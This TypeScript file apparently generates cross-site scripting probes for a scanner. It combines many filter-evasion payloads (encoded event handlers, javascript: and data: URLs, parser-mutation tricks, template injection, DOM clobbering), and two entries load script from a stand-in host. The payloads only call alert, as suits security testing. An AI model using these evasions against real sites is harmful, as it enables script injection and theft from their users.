/** One text that would like to run as script, and what it calls if it does. */
export interface Payload {
  readonly number: number
  /** The text, with its mark behind it. */
  readonly text: string
  /** A word that nothing else on any page has, so that the text is found again. */
  readonly mark: string
}

/** What would run: a call with the payload's own number, in the spellings that filters are fooled with. */
const calls: readonly ((n: number) => string)[] = [
  (n) => `alert(${n})`,
  (n) => `(alert)(${n})`,
  (n) => `alert\`${n}\``,
  (n) => `&#97;lert(${n})`,
  (n) => `alert&lpar;${n}&rpar;`,
  (n) => `alert&#40;${n}&#41`,
  (n) => `&#x61;&#x6c;&#x65;&#x72;&#x74;(${n})`,
  (n) => `\\u0061lert(${n})`,
  (n) => `top['al'+'ert'](${n})`,
  (n) => `[${n}].find(alert)`,
  (n) => `eval(atob('${Buffer.from(`alert(${n})`).toString('base64')}'))`,
  (n) => `Function('ale'+'rt(${n})')()`,
  (n) => `self[/al/.source+/ert/.source](${n})`,
]

/** Elements that do something by themselves, with what they need for it, and the event that tells of it. */
const elements: readonly (readonly [string, string, string])[] = [
  ['img', 'src=x:', 'onerror'],
  ['image', 'src=x:', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['video', 'src=x:', 'onerror'],
  ['video><source', '', 'onerror'],
  ['audio', 'src=x:', 'onerror'],
  ['details', 'open', 'ontoggle'],
  ['input', 'autofocus', 'onfocus'],
  ['input', 'type=image src=x:', 'onerror'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['a', 'href=# autofocus', 'onfocusin'],
  ['x-x', 'tabindex=1 autofocus', 'onfocus'],
  ['marquee', '', 'onstart'],
  ['iframe', 'src=about:blank', 'onload'],
  ['object', 'data=x:', 'onerror'],
  ['embed', 'src=about:blank', 'onload'],
  ['style', '', 'onload'],
  ['link', 'rel=stylesheet href=x:', 'onerror'],
  ['script', 'src=x:', 'onerror'],
  ['svg><animate', 'attributeName=x dur=1s', 'onbegin'],
  ['svg><set', 'attributeName=x', 'onbegin'],
  ['math><mtext><img', 'src=x:', 'onerror'],
  ['button', 'popovertarget=x', 'onclick'],
  ['form><button', '', 'onmouseover'],
  ['p', 'style=animation-name:x', 'onanimationstart'],
  ['p', 'contenteditable', 'oncopy'],
]

/** The ways an attribute can be written so that a browser still reads it. */
const spellings: readonly ((tag: string, more: string, event: string, call: string) => string)[] = [
  (tag, more, event, call) => `<${tag} ${more} ${event}=${call}>`,
  (tag, more, event, call) => `<${tag.toUpperCase()} ${more} ${event.toUpperCase()}=${call}>`,
  (tag, more, event, call) => `<${tag} ${more} ${event}="${call}">`,
  (tag, more, event, call) => `<${tag} ${more} ${event}='${call}'>`,
  (tag, more, event, call) => `<${tag}/${more.replaceAll(' ', '/')}/${event}=${call}>`,
  (tag, more, event, call) => `<${tag}\n${more}\n${event}\n=\n${call}\n>`,
  (tag, more, event, call) => `<${tag}\t${more}\t${event}\t=\t"${call}"\t>`,
  (tag, more, event, call) => `<${tag} ${more} ${event}=${call}//`,
  (tag, more, event, call) => `<${tag} x=">" ${more} ${event}=${call} `,
  (tag, more, event, call) => `<<${tag} ${more} ${event}="${call};">>`,
  (tag, more, event, call) => `<${tag} ${more} x=' ${event}=${call} y='><p>`,
  (tag, more, event, call) => `<${tag} ${more} \u00a0${event}=${call}>`,
]

/** What leads out of the place a text may stand in. */
const ways = [
  ...['', '', '', '">', "'>", '"/>', '`>', '-->', '--!>', ']]>', '*/', '?>', '%>'],
  ...['</title>', '</textarea>', '</script>', '</style>', '</option></select>', '</noscript>', '</template>'],
  ...[
    '</svg>',
    '</math>',
    '</iframe>',
    '</a>',
    '</td></table>',
    '</xmp>',
    '<!--><',
    '<![CDATA[',
    '"]}',
    "\\'",
  ],
]

/** Attributes alone, for a text that stands in one. */
const attributes: readonly ((call: string) => string)[] = [
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `' autofocus onfocus=${call} x='`,
  (call) => ` autofocus onfocus=${call} `,
  (call) => `"onmouseover="${call}`,
  (call) => `'onmouseover='${call}`,
  (call) => `x onpointerenter=${call} x`,
  (call) => `" style="animation-name:x" onanimationstart="${call}`,
  (call) => `" formaction="javascript:${call}`,
  (call) => `" srcdoc="<img src=x: onerror=${call}>`,
  (call) => `" accesskey="x" onclick="${call}`,
]

/** Forms of their own: addresses, drawings, formulas, style, data of scripts, templates, feeds, and what parsers mend. */
const forms: readonly ((call: string) => string)[] = [
  // addresses
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => ` \u0001javascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `javascript:/*--></title></style></textarea></script>*/${call}`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
  (call) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<a href=" &#14; javascript:${call}">x</a>`,
  (call) => `<a href="java&NewLine;script&colon;${call}">x</a>`,
  (call) => `<form action=javascript:${call}><input type=submit>`,
  (call) => `<form><button formaction=javascript:${call}>x`,
  (call) => `<iframe src=javascript:${call}>`,
  (call) => `<iframe srcdoc="<script>${call}</script>">`,
  (call) => `<object data=javascript:${call}>`,
  (call) => `<embed src=javascript:${call}>`,
  (call) => `<base href=javascript:${call}//>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<meta http-equiv=refresh content="0;data:text/html,<script>${call}</script>">`,
  (call) => `<area shape=default href=javascript:${call}>`,
  (call) => `[x](javascript:${call})`,
  (call) => `![x](x:"onerror="${call})`,
  (call) => `<javascript:${call}>`,
  // script itself
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT\n>`,
  (call) => `<script/x>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script>//\n${call}\n`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script src=//stranger.invalid/x.js></script><!--${call}-->`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script>import('data:text/javascript,${call}')</script>`,
  (call) => `<\u017fcript>${call}</\u017fcript>`,
  (call) => `<script\u0000>${call}</script>`,
  (call) => `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `\u00bcscript\u00be${call}\u00bc/script\u00be`,
  // drawings
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}"/>`,
  (call) => `<svg><script>${call.replaceAll('(', '&#40;')}</script>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a>`,
  (call) => `<svg><a><animate attributeName=href values=javascript:${call} /><text y=20>x</text></a>`,
  (call) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${call}/>#x">`,
  (call) => `<svg><foreignObject><img src=x: onerror=${call}></foreignObject></svg>`,
  (call) => `<svg><image href=x: onerror=${call}>`,
  (call) => `<svg><style>{"</style><img src=x: onerror=${call}>"}`,
  (call) => `<svg><desc><![CDATA[</desc><img src=x: onerror=${call}>]]>`,
  (call) => `<svg><title><img src=x: onerror=${call}></title>`,
  // formulas, and what parsers mend into something else
  (call) => `<math><maction actiontype=statusline xlink:href=javascript:${call}>x`,
  (call) => `<math href=javascript:${call}>x</math>`,
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${call}&gt;">`,
  (call) => `<math><annotation-xml encoding="text/html"><img src=x: onerror=${call}></annotation-xml>`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x: onerror=${call}>">`,
  (call) => `<template><s><template><s><img src=x: onerror=${call}></s></template></s></template>`,
  (call) => `<select><template><img src=x: onerror=${call}></template></select>`,
  (call) => `<table><td background=javascript:${call}><img src=x: onerror=${call}>`,
  (call) => `<p id="</p><img src=x: onerror=${call}>">`,
  (call) => `<xmp><p title="</xmp><img src=x: onerror=${call}>">`,
  (call) => `<!--<img src="--><img src=x: onerror=${call}//">`,
  (call) => `<!--[if IE]><img src=x: onerror=${call}><![endif]-->`,
  (call) => `<![CDATA[<img src=x: onerror=${call}>]]>`,
  (call) => `<?php <img src=x: onerror=${call}> ?>`,
  (call) => `</br style=animation-name:x onanimationstart=${call}>`,
  (call) => `<listing>&lt;img src=x: onerror=${call}&gt;</listing>`,
  (call) => `&lt;img src=x: onerror=${call}&gt;`,
  (call) => `&amp;lt;img src=x: onerror=${call}&amp;gt;`,
  (call) => `&#60;img src=x: onerror=${call}&#62;`,
  (call) => `&lt img src=x: onerror=${call}&gt`,
  (call) => `%3Cimg%20src%3Dx%3A%20onerror%3D${encodeURIComponent(call)}%3E`,
  (call) => `%253Cimg%2520src%253Dx%253A%2520onerror%253D${encodeURIComponent(call)}%253E`,
  (call) => `\\x3cimg src=x: onerror=${call}\\x3e`,
  (call) => `\\u003cimg src=x: onerror=${call}\\u003e`,
  // style
  (call) => `<style>@import'data:text/css,*{x:expression(${call})}';</style>`,
  (call) => `<style>@keyframes x{}</style><p style=animation-name:x onanimationend=${call}>`,
  (call) => `<p style="width:expression(${call})">`,
  (call) => `<p style="background:url(javascript:${call})">`,
  (call) => `<link rel=stylesheet href="data:text/css,*{behavior:url(javascript:${call})}">`,
  (call) => `<link rel=preload as=script href=//stranger.invalid/x onload=${call}>`,
  (call) => `}</style><img src=x: onerror=${call}>`,
  // data of scripts
  (call) => `";${call}//`,
  (call) => `';${call}//`,
  (call) => `\`-${call}-\``,
  (call) => `\\";${call}//`,
  (call) => `"-${call}-"`,
  (call) => `'+${call}+'`,
  (call) => `\u2028${call}\u2029`,
  (call) => `*/${call}/*`,
  (call) => `</script><script>${call}</script>`,
  (call) => `{"__proto__":{"innerHTML":"<img src=x: onerror=${call}>"}}`,
  (call) => `"}],"html":"<img/src=x:/onerror=${call}>","x":[{"`,
  // templates
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{= ${call} }}`,
  (call) => `{% ${call} %}`,
  (call) => `<%= ${call} %>`,
  (call) => `#{${call}}`,
  (call) => `<p v-html="'<img src=x: onerror=${call}>'" ng-app ng-csp x-on:click=${call} @click=${call}>`,
  // feeds and other XML
  (call) => `<script xmlns="http://www.w3.org/1999/xhtml">${call}</script>`,
  (call) => `]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  (call) => `</title><content type="html">&lt;img src=x: onerror=${call}&gt;</content><title>`,
  (call) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
  (call) => `<?xml-stylesheet href="data:text/xsl,${call}" type="text/xsl"?>`,
  (call) => `<!DOCTYPE x [<!ENTITY y "<img onerror='${call}'>">]>&y;`,
  (call) => `<!doctype html><html><body onload=${call}>`,
  // names that scripts look for
  (call) => `<form id=facets><input name=action><img name=body src=x: onerror=${call}></form>`,
  (call) => `<a id=results></a><a id=results name=innerHTML href="javascript:${call}"></a>`,
  (call) => `<x-suggest src="data:text/html,<img src=x: onerror=${call}>"><input></x-suggest>`,
  (call) => `<x-feed src="data:text/event-stream,event: item\ndata: <li onclick=${call}>"></x-feed>`,
  (call) => `<x-copy data-text="${call}"><button autofocus onfocus=${call}></button></x-copy>`,
  // the beginning of a table's cell
  (call) => `=HYPERLINK("javascript:${call}")`,
  (call) => `+<img src=x: onerror=${call}>`,
  (call) => `@<img src=x: onerror=${call}>`,
]

/**
 * So many different texts that try to run as script, the same ones each time: every form of its own at least once, then
 * elements that act by themselves, crossed with events, spellings, encodings of the call, and ways out of where they stand.
 */
export function makePayloads(count: number): Payload[] {
  const random = chances(20_261_122)
  const pick = <T>(all: readonly T[]): T => {
    const one = all[Math.floor(random() * all.length)]
    if (one === undefined) throw new Error('nothing to pick from')
    return one
  }
  const plain = calls[0] ?? pick(calls)
  const drawn = (n: number): string => {
    const call = pick(calls)(n)
    const kind = random()
    if (kind < 0.55) return pick(ways) + pick(spellings)(...pick(elements), call)
    if (kind < 0.7) return pick(attributes)(call)
    return pick(ways) + pick(forms)(call)
  }
  const kinds = new Set<string>()
  const payloads: Payload[] = []
  // a short run takes its share of every kind, not only the first ones
  const stride = Math.max(1, Math.floor(forms.length / Math.max(1, Math.floor(count / 2))))
  const turns = forms.filter((_, place) => place % stride === 0)
  while (payloads.length < count) {
    const number = payloads.length + 1
    const turn = payloads.length % 2 === 0 ? turns[payloads.length / 2] : undefined
    const words = turn ? turn(plain(number)) : drawn(number)
    const kind = words.replaceAll(String(number), 'N')
    if (kinds.has(kind)) continue
    kinds.add(kind)
    const mark = `mark${String(number).padStart(4, '0')}`
    payloads.push({ number, mark, text: `${words} ${mark}` })
  }
  return payloads
}

/** Chances between 0 and 1 that come the same each time (mulberry32). */
function chances(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}
